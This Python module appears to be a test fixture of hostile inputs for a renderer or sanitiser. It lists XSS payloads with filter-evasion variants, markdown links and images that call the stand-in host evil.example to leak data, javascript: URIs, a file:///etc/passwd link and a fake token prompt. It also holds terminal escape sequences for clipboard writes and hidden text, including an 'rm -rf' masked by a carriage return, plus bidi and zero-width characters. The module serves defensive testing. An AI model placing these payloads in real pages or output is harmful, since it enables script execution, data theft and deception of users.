"""Texts that try to be more than text: markup, script, links, images, markdown, SVG, terminal codes, hidden letters.

Each would, if it were active, set `window.hacked`, ask `evil.example` for something, or change what the page shows.
"""

EVIL = "http://evil.example"
_RUN = "window.hacked=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x">',
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><image href="{EVIL}/a.svg"/></svg>',
    f'<svg><use href="{EVIL}/a.svg#x"/></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f'<svg><foreignObject><iframe src="{EVIL}"></iframe></foreignObject></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<iframe src={EVIL}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<video src={EVIL}/v.mp4 autoplay></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{EVIL}/b.css';</style>",
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    '<div style="position:fixed;inset:0;background:red;z-index:999">over everything</div>',
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL}><input name=token><button>Approve</button></form>",
    f'<button onclick="{_RUN}">Approve</button>',
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"<marquee onstart={_RUN}>go</marquee>",
    f"<input autofocus onfocus={_RUN}>",
    "<div id=page>clobbered</div><form name=cookie></form>",
    f"<template><img src=x onerror={_RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"--><script>{_RUN}</script><!--",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
    "</span></div></main><h1>Signed out. Enter your token</h1>",
)

MARKDOWN = (
    f"![a picture]({EVIL}/leak.png?secret=1)",
    f'![x]({EVIL}/a.svg "title")',
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](&#106;avascript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"[click](vbscript:{_RUN})",
    "[file](file:///etc/passwd)",
    f"[https://bank.example]({EVIL}/phish)",
    "[user](https://good.example@evil.example/)",
    f"<javascript:{_RUN}>",
    f"[ref][1]\n\n[1]: javascript:{_RUN}",
    f"![ref][2]\n\n[2]: {EVIL}/ref.png",
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f'```"><img src=x onerror={_RUN}>\ncode\n```',
    f"`<img src=x onerror={_RUN}>`",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ![]({EVIL}/t.png) |",
    f"- [ ] <svg onload={_RUN}>\n- [x] done",
    f"[![nested]({EVIL}/n.png)]({EVIL}/link)",
    f'<{EVIL}/autolink"onmouseover="{_RUN}>',
    f"# <img src=x onerror={_RUN}>",
    f"> <iframe src={EVIL}></iframe>",
    ">" * 3000 + "deep",
    "*" * 4000 + "[" * 4000,
    f'[a](<{EVIL}/x" onclick="{_RUN}>)',
    f"![]( {EVIL}/space.png )",
    "[//]: # (This line is a comment and must not vanish unseen)",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m and plain",
    "\x1b]0;new title\x07after",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1Hcleared",
    "safe command\rrm -rf everything",
    "\x1b[8mhidden\x1b[28m shown",
    "\x9b31mC1 red\x9c",
    "\x1bP1$r0m\x1b\\device",
    "bell\x07 backspace\x08\x08\x08 delete\x7f",
)

HIDDEN_LETTERS = (
    "right \u202egnp.exe to left",
    "isolate \u2066\u2069 marks \u200f",
    "zero\u200bwidth\u200cjoiner\u2060\ufeff",
    "tags \U000e0041\U000e0042 unseen",
    "filler \u3164\u115f blank",
    "lines\u2028and\u2029paragraphs",
    "null \x00 byte",
    "a" + "\u0300" * 200 + " heap of marks",
)

TEXTS = (*MARKUP, *MARKDOWN, *TERMINAL, *HIDDEN_LETTERS)
# As names of files. Those with hidden letters are refused by patches before anyone is shown them.
NAMES = tuple(
    name
    for text in (*MARKUP, *MARKDOWN)
    if (name := text.replace("/", "\u2215").replace("\n", " ").replace("\t", " ").strip()) and len(name.encode()) < 200
)
